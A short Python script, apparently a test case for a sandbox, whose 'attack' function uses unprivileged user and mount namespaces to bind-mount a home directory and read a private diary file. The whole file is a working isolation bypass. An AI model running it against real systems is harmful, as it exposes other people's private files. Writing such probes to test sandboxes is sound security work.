# Mounts the home over scratch in namespaces of its own.
# proof: secret
import ctypes
import os


def attack(arg):
    libc = ctypes.CDLL(None)
    uid, gid = os.getuid(), os.getgid()
    assert libc.unshare(0x10000000 | 0x00020000) == 0
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
    open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
    os.mkdir("over")
    assert libc.mount(arg["home"].encode(), b"over", None, 4096 | 16384, None) == 0
    return open("over/diary.txt").read()
